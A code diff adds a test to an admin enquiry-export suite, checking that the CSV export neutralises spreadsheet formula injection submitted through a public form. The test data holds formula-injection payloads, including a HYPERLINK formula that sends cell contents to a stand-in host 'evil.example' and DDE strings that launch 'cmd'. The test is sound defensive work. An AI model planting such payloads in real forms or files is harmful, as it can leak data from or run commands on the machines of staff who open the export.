@@ -4,6 +4,7 @@ import { getDashboard } from '@hashforge/contract/admin/dashboard';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { adminCall, createTestStaff, type StaffSession, signInStaff } from '../../../../test/support/admin.ts';
 import { createTestProduct } from '../../../../test/support/factories/catalog.ts';
+import { FORMULA_START, readCsv } from '../../../../test/support/read-csv.ts';
 import { createTestContext, type TestContext } from '../../../../test/support/test-app.ts';
 
 let ctx: TestContext;
@@ -18,7 +19,7 @@ beforeAll(async () => {
 afterAll(() => ctx.close());
 
 let ip = 0;
-async function enquire(email: string) {
+async function enquire(email: string, fields: Record<string, string> = {}) {
   const res = await ctx.app.inject({
     method: 'POST',
     url: '/web/hashforge/purchase/plan/create',
@@ -35,6 +36,7 @@ async function enquire(email: string) {
       companyName: 'Lagos Hash Farm Ltd',
       contactType: 'Telegram',
       telegram: '@amara_hash',
+      ...fields,
     }),
   });
   expect(res.json()).toMatchObject({ result: 1 });
@@ -100,5 +102,39 @@ describe('the bulk enquiry desk', () => {
       headers: { cookie: merchandiser.cookie },
     });
     expect(denied.json()).toMatchObject({ result: 0, msg: 'You do not have permission to do this' });
+  });
+  it('escapes every cell a spreadsheet would run as a formula, as the public form sent it', async () => {
+    const formulas = {
+      name: '=HYPERLINK("https://evil.example/?d="&A1,"Open quote")',
+      country: "@SUM(1+1)*cmd|' /C calc'!A0",
+      companyName: "+cmd|' /C calc'!A0",
+    };
+    const notes = ["-2+3+cmd|' /C calc'!A0", '\t=1+1', '\r=1+1', '@SUM(A1:A9)'];
+    const emails: string[] = [];
+    for (const [i, note] of notes.entries()) {
+      const email = `formula${i}@farm.example`;
+      emails.push(email);
+      await enquire(email, formulas);
+      const list = await adminCall(ctx, listBulk, { page: 1, limit: 5, keyword: email }, { session: support });
+      await adminCall(ctx, updateBulk, { id: list.body.data.list[0]!.id, staffNote: note }, { session: support });
+    }
+    const res = await ctx.app.inject({
+      method: 'GET',
+      url: adminCallPath({ path: 'bulk/export' }),
+      headers: { cookie: support.cookie },
+    });
+    const [header, ...rows] = readCsv(res.body);
+    const column = (name: string) => header!.indexOf(name);
+    for (const [i, note] of notes.entries()) {
+      const row = rows.find((r) => r[column('email')] === emails[i]);
+      expect(row, emails[i]).toBeDefined();
+      expect(row![column('name')]).toBe(`'${formulas.name}`);
+      expect(row![column('country')]).toBe(`'${formulas.country}`);
+      expect(row![column('companyName')]).toBe(`'${formulas.companyName}`);
+      expect(row![column('staffNote')]).toBe(`'${note}`);
+      expect(row![column('mobileCode')]).toBe("'+234");
+    }
+    const runnable = rows.flat().filter((cell) => FORMULA_START.test(cell));
+    expect(runnable, 'cells a spreadsheet would run').toEqual([]);
   });
 });
